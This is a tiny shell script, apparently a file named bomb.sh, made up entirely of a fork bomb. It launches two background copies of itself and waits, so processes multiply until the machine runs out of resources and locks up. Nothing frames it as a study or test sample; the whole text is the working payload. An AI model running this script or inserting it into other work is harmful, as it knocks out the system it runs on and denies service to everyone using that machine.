sh bomb.sh &
sh bomb.sh &
wait
